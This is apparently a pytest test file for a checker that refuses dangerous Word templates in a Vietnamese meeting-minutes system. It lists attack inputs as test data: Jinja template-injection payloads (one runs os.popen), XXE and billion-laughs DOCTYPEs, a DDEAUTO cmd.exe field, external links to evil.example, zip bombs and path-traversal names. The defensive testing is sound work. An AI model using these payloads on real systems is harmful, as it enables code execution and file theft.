"""Files that are no templates: programs, other files, bombs, and Jinja that reaches for more than a paper's parts."""

from __future__ import annotations

import struct
import time
from contextlib import suppress
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from cum_chuyen_mon.documents.own import package
from cum_chuyen_mon.documents.own.checking import check
from cum_chuyen_mon.documents.own.expressions import problems_of
from cum_chuyen_mon.documents.own.filling import Filled, fill
from cum_chuyen_mon.documents.own.known import kinds, parts_of
from cum_chuyen_mon.documents.own.specimen import specimens
from cum_chuyen_mon.documents.own.unfit import Unfit

from .word_files import DOCUMENT_XML, RELATIONS, TYPES, packed, parts, replaced, with_parts, word

KIND = "minutes"
MOST_SECONDS = 10
"""Far above what a refusal takes, far below what a bomb would."""


def refused(content: bytes, saying: str = "") -> str:
    began = time.monotonic()
    with pytest.raises(Unfit) as found:
        check(content, KIND)
    assert time.monotonic() - began < MOST_SECONDS
    assert saying in str(found.value), str(found.value)
    return str(found.value)


CODE = [
    "{{ ''.__class__.__mro__ }}",
    "{{ subject.__class__ }}",
    "{{ head.__init__.__globals__ }}",
    "{{ head['__class__'] }}",
    "{{ (head|attr('__class__')) }}",
    "{{ absent|map(attribute='__class__')|join }}",
    "{{ subject.format(head) }}",
    "{{ '{0.__class__}'.format(head) }}",
    "{{ '%s'|format(head) }}",
    "{{ subject % head }}",
    "{{ subject.upper() }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ self.__init__ }}",
    "{{ lipsum() }}",
    "{{ range(10) }}",
    "{{ namespace() }}",
    "{{ request }}",
    "{{ frappe.db }}",
    '{{ "a"*10**9 }}',
    "{{ 10**10**10 }}",
    "{{ subject|center(1000000000) }}",
    "{{ subject ~ subject }}",
    "{{ subject[0:5] }}",
    "{{ subject|safe }}",
    "{{ subject if roll else chair }}",
    "{{ [1, 2] }}",
    "{{ {'a': 1} }}",
    "{% for x in range(10**9) %}{% endfor %}",
    "{% for x in '' %}{% endfor %}",
    "{% for x in absent recursive %}{{ x }}{% endfor %}",
    "{% for x in absent if x %}{{ x }}{% endfor %}",
    "{% include '/etc/passwd' %}",
    "{% include 'minutes.html' %}",
    "{% import 'minutes.html' as m %}",
    "{% from 'minutes.html' import m %}",
    "{% extends 'minutes.html' %}",
    "{% set x = 1 %}",
    "{% set x %}a{% endset %}",
    "{% macro m() %}a{% endmacro %}",
    "{% call m() %}a{% endcall %}",
    "{% filter upper %}a{% endfilter %}",
    "{% block b %}a{% endblock %}",
    "{% with x = 1 %}a{% endwith %}",
    "{% autoescape false %}a{% endautoescape %}",
    "{% raw %}{{ <w:altChunk/> }}{% endraw %}",
    "{% do x %}",
    "{% debug %}",
    "{% if subject is callable %}a{% endif %}",
    "{% if subject in absent %}a{% endif %}",
    "{% if roll == 'a' * 99 %}a{% endif %}",
    "{% if roll == '" + "a" * 300 + "' %}a{% endif %}",
    "{{ absent|join('; ', 'x') }}",
    "{{ absent|join(roll) }}",
    "{{ topics|join('; ') }}",
    "{{r subject }}",
    "{{p subject }}",
    "{%r if subject %}",
    "{% colspan subject %}",
    "{% cellbg subject %}",
    "{% vm %}",
    "{% hm %}",
]


@pytest.mark.parametrize("text", CODE)
def test_nothing_but_parts_of_the_paper_is_named(text):
    refused(word(text))


def test_what_jinja_would_put_in_as_it_is_is_refused_wherever_it_is_found():
    """``raw`` leaves no trace in the syntax tree."""
    assert problems_of("{% raw %}<w:altChunk/>{% endraw %}", parts_of(kinds()[KIND]), "Thân")
    assert not problems_of("<w:p/>", parts_of(kinds()[KIND]), "Thân")


@pytest.mark.parametrize("where", ["header", "footer"])
def test_headers_and_footers_are_looked_at_too(where):
    refused(word("a", **{where: "{{ head.__class__ }}"}), "trang")


def test_a_tag_is_read_as_it_is_filled_however_its_runs_are_cut():
    refused(word(["{", "{ head", ".__cl", "ass__", " }", "}"]), "không có phần nào tên «head.__class__»")


TEXT = st.text(alphabet=st.sampled_from("{}%#_ .|'\"()[]-+*~=<>abfor endif inhead subject"), max_size=40)


@settings(max_examples=80, deadline=None)
@given(st.lists(TEXT, min_size=1, max_size=3))
def test_whatever_is_written_is_taken_and_filled_or_refused_in_words(texts):
    content = word(*texts)
    with suppress(Unfit):
        check(content, KIND)
        for specimen in specimens(kinds()[KIND]):
            assert fill(content, specimen).startswith(b"PK")


@pytest.mark.parametrize(
    ("content", "saying"),
    [
        (b"", "Tệp trống"),
        (b"hello", "không phải là tài liệu Word"),
        (b"PK\x03\x04" + b"\0" * 100, "không phải là tài liệu Word"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "Word 97-2003"),
        (b"%PDF-1.7", "không phải là tài liệu Word"),
        (b"\0" * (package.MOST_BYTES + 1), "lớn hơn"),
        (packed({"a.txt": b"a"}), "không phải là tài liệu Word"),
    ],
)
def test_other_files_are_refused(content, saying):
    refused(content, saying)


def test_a_zip_bomb_is_not_unpacked():
    refused(
        with_parts(word("a"), {"word/media/a.png": b"\0" * (package.MOST_UNPACKED + 1)}), "giải nén ra hơn"
    )
    refused(
        with_parts(word("a"), {f"word/media/{n}.png": b"" for n in range(package.MOST_PARTS)}), "giải nén"
    )
    refused(
        with_parts(word("a"), {"word/big.xml": b"<a>" + b" " * package.MOST_IN_AN_XML_PART + b"</a>"}),
        "lớn hơn",
    )


def test_a_part_that_is_longer_than_the_archive_says_is_not_read():
    content = bytearray(with_parts(word("a"), {"word/media/a.png": b"\0" * 2_000_000}))
    at = content.rfind(b"word/media/a.png") - 46  # its line in the archive's index
    content[at + 24 : at + 28] = struct.pack("<I", 10)
    refused(bytes(content))


@pytest.mark.parametrize(
    "name", ["../../evil.xml", "/etc/evil.xml", "word\\evil.xml", "word/../../evil.png", "C:/evil.png"]
)
def test_names_that_lead_out_of_the_archive_are_refused(name):
    refused(with_parts(word("a"), {name: b"<a/>"}), "tên không hợp lệ")


def test_two_parts_of_one_name_are_refused():
    stream = BytesIO()
    with ZipFile(stream, "w", ZIP_DEFLATED) as archive:
        for name, content in [*parts(word("a")).items(), ("WORD/document.xml", b"<a/>")]:
            archive.writestr(name, content)
    refused(stream.getvalue(), "trùng tên")


def test_a_password_is_told():
    content = bytearray(word("a"))
    at = content.find(b"PK\x01\x02")
    content[at + 8] |= 1
    refused(bytes(content), "mật khẩu")


LAUGHS = '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'


@pytest.mark.parametrize("part", [DOCUMENT_XML, TYPES, RELATIONS, "docProps/core.xml", "word/styles.xml"])
@pytest.mark.parametrize(
    "declaration",
    [
        LAUGHS,
        '<!DOCTYPE x SYSTEM "file:///etc/passwd">',
        '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x"> %p;]>',
    ],
)
def test_no_part_declares_entities(part, declaration):
    text = parts(word("a"))[part].decode()
    head, _, rest = text.partition("?>")
    refused(with_parts(word("a"), {part: f"{head}?>{declaration}{rest}".encode()}), "DTD")


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-7", "cp037"])
def test_a_declaration_is_not_hidden_in_another_encoding(encoding):
    declared = "utf-16" if encoding == "utf-16-le" else encoding  # the parser knows it by its first letters
    text = f'<?xml version="1.0" encoding="{declared}"?>{LAUGHS}<w>&b;</w>'
    refused(with_parts(word("a"), {"word/extra.xml": text.encode(encoding)}), "UTF-8")


def relation(kind: str, target: str, mode: str = "") -> str:
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    mode = f' TargetMode="{mode}"' if mode else ""
    return f'<Relationship Id="rEvil" Type="{base}/{kind}" Target="{target}"{mode}/></Relationships>'


@pytest.mark.parametrize(
    ("kind", "target", "mode"),
    [
        ("attachedTemplate", "https://evil.example/t.dotm", "External"),
        ("image", "https://evil.example/x.png", "External"),
        ("image", r"\\evil.example\share\x.png", "External"),
        ("image", "file:///etc/passwd", ""),
        ("hyperlink", "evil.html", "external"),
        ("oleObject", "https://evil.example/x", "External"),
    ],
)
def test_nothing_is_brought_in_from_elsewhere(kind, target, mode):
    content = replaced(word("a"), "</Relationships>", relation(kind, target, mode), RELATIONS)
    refused(content, f"nối ra ngoài tới «{target}»")


@pytest.mark.parametrize(
    "kind", ["oleObject", "aFChunk", "subDocument", "frame", "vbaProject", "attachedTemplate", "control"]
)
def test_no_part_of_a_dangerous_kind_is_named(kind):
    refused(replaced(word("a"), "</Relationships>", relation(kind, "x.xml"), RELATIONS), f"kiểu «{kind}»")


@pytest.mark.parametrize(
    ("part", "saying"),
    [
        ("word/vbaProject.bin", "macro"),
        ("word/activeX/activeX1.xml", "ActiveX"),
        ("word/embeddings/oleObject1.bin", "đối tượng nhúng"),
        ("word/embeddings/sheet.xlsx", "đối tượng nhúng"),
        ("word/media/image1.svg", "PNG, JPEG"),
        ("word/media/image1.emf", "PNG, JPEG"),
        ("word/evil.html", "không dùng được"),
    ],
)
def test_no_program_or_object_comes_along(part, saying):
    refused(with_parts(word("a"), {part: b"<a/>"}), saying)


@pytest.mark.parametrize(
    "kind",
    [
        "application/vnd.ms-word.document.macroEnabled.main+xml",
        "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml",
    ],
)
def test_a_document_with_macros_is_none_by_another_name(kind):
    refused(replaced(word("a"), package.DOCUMENT, kind, TYPES), "*.docm")


R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
V = 'xmlns:v="urn:schemas-microsoft-com:vml"'


@pytest.mark.parametrize(
    "element",
    [
        f'<w:altChunk {R} r:id="rId1"/>',
        f'<w:subDoc {R} r:id="rId1"/>',
        "<w:p><w:r><w:object/></w:r></w:p>",
        f'<w:p><w:r><w:pict><v:imagedata {V} src="http://evil.example/x.png"/></w:pict></w:r></w:p>',
        '<w:p><w:fldSimple w:instr="DDEAUTO c:\\\\cmd.exe"><w:r/></w:fldSimple></w:p>',
        '<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;/etc/passwd&quot;"/></w:p>',
        '<w:p><w:fldSimple w:instr="PAGE {{ subject }}"/></w:p>',
    ],
)
def test_the_text_holds_no_foreign_element_or_field(element):
    refused(replaced(word("a"), "<w:body>", f"<w:body>{element}"))


def field(*pieces: str) -> str:
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{turn}"/></w:r>' for turn in ("begin", "end"))
    return f"{begin}{runs}{end}"


@pytest.mark.parametrize(
    "told",
    [
        field("INCLUDE", "PICTURE http://evil.example/x.png"),
        field("D", "DE"),
        field("D{# #}DE"),
        field("").replace("<w:r/>", ""),
        field("PAGE").replace("</w:instrText></w:r>", f"</w:instrText></w:r>{field('QUOTE 68')}"),
        "<w:r><w:instrText>LINK x</w:instrText></w:r>",
    ],
)
def test_a_field_is_read_whole_however_it_is_cut(told):
    refused(replaced(word("a"), "<w:body>", f"<w:body><w:p>{told}</w:p>"), "trường Word")


def test_a_page_number_may_stay():
    check(replaced(word("a"), "<w:body>", f"<w:body><w:p>{field(' PA', 'GE ')}</w:p>"), KIND)


def test_what_is_filled_is_looked_at_once_more():
    """A tag could make of harmless pieces what no piece is."""
    content = replaced(word("X"), "<w:t>X</w:t>", '<w:fldSimple w:instr="DDE x"/>')
    with pytest.raises(Unfit, match="trường Word"):
        fill(content, specimens(kinds()[KIND])[0])


def test_what_grows_without_end_is_stopped(monkeypatch):
    content = word("{%p for line in absent %}", "{{ line }}" + "a" * 1000, "{%p endfor %}")
    paper = specimens(kinds()[KIND])[0]
    assert fill(content, paper)
    monkeypatch.setattr("cum_chuyen_mon.documents.own.filling.MOST_LETTERS", 3000)
    with pytest.raises(Unfit, match="dài quá mức"):
        fill(content, paper)


def test_lists_are_not_multiplied_with_each_other():
    loops = ["{%p for a in attendees %}", "{%p for b in attendees %}", "x", "{%p endfor %}", "{%p endfor %}"]
    assert "for trong for chỉ đi qua phần của «a»" in refused(word(*loops))
    twice = [
        "{%p for t in topics %}",
        "{%p for a in t.opinions %}",
        "{%p for b in t.opinions %}",
        *["{%p endfor %}"] * 3,
    ]
    assert "for trong for chỉ đi qua phần của «a»" in refused(word(*twice))


def test_very_many_tags_are_refused_in_time():
    refused(word("{{ subject }} " * 2001), "hơn 2000 thẻ")
    refused(word(*["{{ subject"] * 3000), "chưa đóng")
    refused(word(*["{%p for x in absent %}"] * 1500), "chưa có")


def test_the_text_of_a_paper_is_no_template():
    """What people wrote in their minutes is put in as it is, whatever it looks like."""
    paper = specimens(kinds()[KIND])[0]
    object.__setattr__(paper, "subject", "{{ head.issuer }} <w:p/> & {_{ {% if %}")
    filled = parts(fill(word("{{ subject }}"), paper))[DOCUMENT_XML].decode()
    assert "{{ head.issuer }} &lt;w:p/&gt; &amp; {_{ {% if %}" in filled


def test_docxtpl_fills_what_is_checked():
    """A part that docxtpl learns to fill must be looked at as well."""
    ours = {"render_xml_part", "render_properties"}
    filled = {name for name in dir(Filled) if name.startswith("render")}
    assert filled == {"render", "render_init", "render_footnotes"} | ours
